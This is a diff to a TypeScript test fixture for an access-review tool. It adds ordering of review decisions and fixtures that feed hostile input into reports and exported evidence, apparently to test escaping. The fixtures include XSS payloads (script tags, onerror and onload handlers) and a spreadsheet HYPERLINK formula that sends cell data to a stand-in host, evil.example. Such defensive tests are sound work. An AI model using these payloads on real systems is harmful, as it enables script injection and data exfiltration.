@@ -3,9 +3,9 @@
 // the access report the real merge (src/plan/access.ts) makes of them. Reviews, patches, evidence
 // and HTML are tested on it without a backend.
 import type { AccessReading, AccessReport, ActualAccess, AccessHolder } from '../../src/model/access.js';
-import type { Review, ReviewVerdict } from '../../src/model/review.js';
+import type { Review, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
 import { accessReport } from '../../src/plan/access.js';
-import { isSelfReview } from '../../src/plan/review.js';
+import { isSelfReview, reviewEvidence } from '../../src/plan/review.js';
 import { parseSpec } from '../../src/spec/load.js';
 import type { Spec } from '../../src/spec/schema.js';
 import { sha256 } from '../../src/core/canonical.js';
@@ -135,19 +135,75 @@ export function fixtureReview(decisions: [string, string, string, ReviewVerdict,
     },
     population: report.rows,
     emails: EMAILS,
-    decisions: decisions.map(([who, dataset, level, decision, reviewer]) => {
-      const row = rowOf(who, dataset, level);
-      return {
-        rowId: row.id,
-        decision,
-        reason: `${decision}: quarterly review`,
-        reviewer,
-        decidedAt: NOW.toISOString(),
-        selfReview: isSelfReview(reviewer, row, EMAILS),
-        auditSeq: ++seq,
-      };
-    }),
+    // Ordered as the store returns them: by row id, then reviewer.
+    decisions: decisions
+      .map(([who, dataset, level, decision, reviewer]) => {
+        const row = rowOf(who, dataset, level);
+        return {
+          rowId: row.id,
+          decision,
+          reason: `${decision}: quarterly review`,
+          reviewer,
+          decidedAt: NOW.toISOString(),
+          selfReview: isSelfReview(reviewer, row, EMAILS),
+          auditSeq: ++seq,
+        };
+      })
+      .sort((a, b) => (a.rowId < b.rowId ? -1 : a.rowId > b.rowId ? 1 : a.reviewer < b.reviewer ? -1 : a.reviewer > b.reviewer ? 1 : 0)),
     closedAt: null,
     closedBy: null,
   };
+}
+
+/** A holder name as hostile as a PostgreSQL role name may be. */
+export const HOSTILE = `<script>alert(1)</script>"'><img src=x onerror=alert(2)>`;
+
+export function hostileReport(): AccessReport {
+  const r = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE }) });
+  return {
+    ...r,
+    filters: { principal: `"><b>x</b>` },
+    limits: [...r.limits, `bucket <i>ai</i>: no permission to read its policy`],
+    invariants: [
+      { invariant: `no-<u>public</u>`, message: `PUBLIC reads features through GRANT SELECT ... TO PUBLIC & more`, source: 'actual', dataset: 'features' },
+    ],
+  };
+}
+
+export function hostileEvidence(): ReviewEvidence {
+  const report = hostileReport();
+  const review = fixtureReview(
+    [
+      ['alice', 'training-data', 'read', 'revoke', 'carol'],
+      ['alice', 'training-data', 'read', 'keep', 'alice@example.com'],
+      [HOSTILE, 'artifacts', 'read', 'revoke', `<svg onload=alert(3)>`],
+      ['trainer', 'artifacts', 'write', 'keep', 'carol'],
+    ],
+    report,
+  );
+  review.decisions[0]!.reason = `=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`;
+  const fresh = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE, without: (a) => a.holder.name === 'alice' && a.backend === 'aws' }) });
+  const entries = [
+    {
+      seq: 10,
+      at: '2026-12-01T00:00:00.000Z',
+      actor: 'carol@cli',
+      event: 'review.start',
+      address: 'review/2026-Q4',
+      outcome: 'ok',
+      detail: null,
+      hash: 'a'.repeat(64),
+    },
+    {
+      seq: 20,
+      at: '2026-12-03T10:00:00.000Z',
+      actor: 'ci@cli',
+      event: 'change.delete',
+      address: 'aws:membership/ml-researchers/alice',
+      outcome: 'ok',
+      detail: null,
+      hash: 'b'.repeat(64),
+    },
+  ];
+  return reviewEvidence({ review, fresh, entries, verdict: { ok: true, entries: 20 }, exportedBy: `auditor "<q>"@cli` });
 }
